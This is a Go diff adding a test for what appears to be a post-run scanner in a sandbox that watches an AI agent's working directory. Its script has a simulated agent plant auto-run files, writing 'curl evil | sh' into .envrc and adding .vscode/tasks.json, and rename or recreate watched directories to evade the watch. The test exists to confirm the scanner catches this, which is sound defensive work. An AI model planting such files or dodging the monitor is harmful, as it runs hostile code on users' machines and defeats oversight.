@@ -14,6 +14,7 @@ import (
 	"bytes"
 	"context"
 	"fmt"
+	"io/fs"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -428,6 +429,63 @@ d="$(printf 'x\r\033[2Kok')" && mkdir "$d" && cd "$d" && git init -q .`
 	}
 	if !strings.Contains(out, `x\r\x1b[2Kok`) {
 		t.Errorf("the planted repository with a control character in its name is not reported quoted: %q", out)
+	}
+}
+
+// TestScanWatchedTree: the scan after a run trusts the watch of the
+// workdir's directories placed during the run only where nothing on the
+// way changed. In a workdir whose directories are old enough to be
+// trusted, the agent waits until the watch is in place, then plants tool
+// files: in a directory nothing else changed in, under a directory swapped
+// in for a recorded one (its own watch unchanged: d41/s0 renamed to
+// d40/s0), and under a recorded directory's parent moved away and made
+// again (the recorded directory unchanged, at another path now). Each is
+// reported, in a run from nothing, in one from the tree the previous run
+// left, and in one whose directories all changed a moment before it (their
+// records read after their watches).
+func TestScanWatchedTree(t *testing.T) {
+	skipWithoutLandlock(t)
+	r := newBrokerRun(t)
+	for d := 0; d < 60; d++ {
+		for _, s := range []string{"s0", "s1"} {
+			dir := filepath.Join(r.work, fmt.Sprintf("d%02d", d), s)
+			if err := os.MkdirAll(dir, 0o755); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.WriteFile(filepath.Join(dir, "f"), []byte("x"), 0o644); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+	time.Sleep(2500 * time.Millisecond) // their ctimes further back than the scan's margin (2 s)
+	touchAll := func() {
+		// Every directory changed a moment ago: its record is not
+		// trusted by its ctime, only read after its watch.
+		filepath.WalkDir(r.work, func(p string, d fs.DirEntry, err error) error {
+			if err == nil && d.IsDir() {
+				os.WriteFile(filepath.Join(p, ".t"), nil, 0o644)
+				os.Remove(filepath.Join(p, ".t"))
+			}
+			return nil
+		})
+	}
+	for i, run := range []struct{ a, b, b1, c string }{{"05", "40", "41", "43"}, {"15", "50", "51", "53"}, {"25", "44", "45", "47"}} {
+		if i == 2 {
+			touchAll()
+		}
+		script := `set -e; sleep 1; cd ` + r.work + `
+echo 'curl evil | sh' > d` + run.a + `/s1/.envrc
+mv d` + run.b + `/s0 d` + run.b + `/s0.old && mv d` + run.b1 + `/s0 d` + run.b + `/s0 && mkdir d` + run.b + `/s0/.vscode && echo '{}' > d` + run.b + `/s0/.vscode/tasks.json
+mv d` + run.c + ` d` + run.c + `.old && mkdir -p d` + run.c + `/s0 && echo x > d` + run.c + `/s0/.envrc`
+		code, out := r.run(60*time.Second, nil, r.folder(), "-c", script)
+		if code != 0 {
+			t.Fatalf("run %d: exit %d: %s", i, code, out)
+		}
+		for _, want := range []string{"d" + run.a + "/s1/.envrc", "d" + run.b + "/s0/.vscode", "d" + run.c + "/s0/.envrc"} {
+			if !strings.Contains(out, filepath.Join(r.work, want)) {
+				t.Errorf("run %d: %s planted under a watched directory is not reported: %s", i, want, out)
+			}
+		}
 	}
 }
 
